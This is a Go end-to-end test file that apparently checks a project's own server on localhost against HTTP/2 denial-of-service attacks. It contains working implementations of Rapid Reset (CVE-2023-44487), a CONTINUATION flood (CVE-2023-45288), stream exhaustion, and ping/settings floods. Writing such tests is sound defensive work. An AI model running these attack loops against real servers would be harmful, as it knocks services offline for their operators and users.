package e2e

import (
	"bytes"
	"io"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2 opens a connection of HTTP/2 and does with its frames what attackers do,
// until it is cut off.
func (a *attack) http2(from string, do func(a *attack, f *http2.Framer, fields []byte) error) {
	c := a.dial(from, "h2")
	if c == nil {
		return
	}
	defer c.Close()
	go func() { // so that nothing stops it from writing
		_, _ = io.Copy(io.Discard, c)
	}()
	f := http2.NewFramer(c, nil)
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil || f.WriteSettings() != nil {
		return
	}
	var fields bytes.Buffer
	e := hpack.NewEncoder(&fields)
	for _, h := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "localhost"}, {Name: ":path", Value: "/v1/openapi.json"}} {
		_ = e.WriteField(h)
	}
	for !a.over() {
		if do(a, f, fields.Bytes()) != nil {
			return
		}
	}
}

// request begins a stream.
func request(f *http2.Framer, stream uint32, fields []byte, whole bool) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fields, EndStream: whole, EndHeaders: true})
}

// rapidReset asks and takes it back at once (CVE-2023-44487).
func rapidReset(a *attack, f *http2.Framer, fields []byte) error {
	for stream := uint32(1); !a.over(); stream += 2 {
		if err := request(f, stream, fields, true); err != nil {
			return err
		}
		if err := f.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
			return err
		}
		a.once()
	}
	return nil
}

// continuation never ends a header (CVE-2023-45288).
func continuation(a *attack, f *http2.Framer, fields []byte) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields}); err != nil {
		return err
	}
	var more bytes.Buffer
	e := hpack.NewEncoder(&more)
	for !a.over() {
		more.Reset()
		_ = e.WriteField(hpack.HeaderField{Name: "x-more", Value: "0123456789"})
		if err := f.WriteContinuation(1, false, more.Bytes()); err != nil {
			return err
		}
		a.once()
	}
	return nil
}

// manyStreams asks for more at a time than there may be, and ends no request.
func manyStreams(a *attack, f *http2.Framer, fields []byte) error {
	for stream := uint32(1); !a.over(); stream += 2 {
		if err := request(f, stream, fields, false); err != nil {
			return err
		}
		if err := f.WriteData(stream, false, make([]byte, 100)); err != nil {
			return err
		}
		a.once()
	}
	return nil
}

// pings wants answers to what asks for nothing (CVE-2019-9512, CVE-2019-9515).
func pings(a *attack, f *http2.Framer, _ []byte) error {
	if err := f.WritePing(false, [8]byte{}); err != nil {
		return err
	}
	a.once()
	return f.WriteSettings()
}
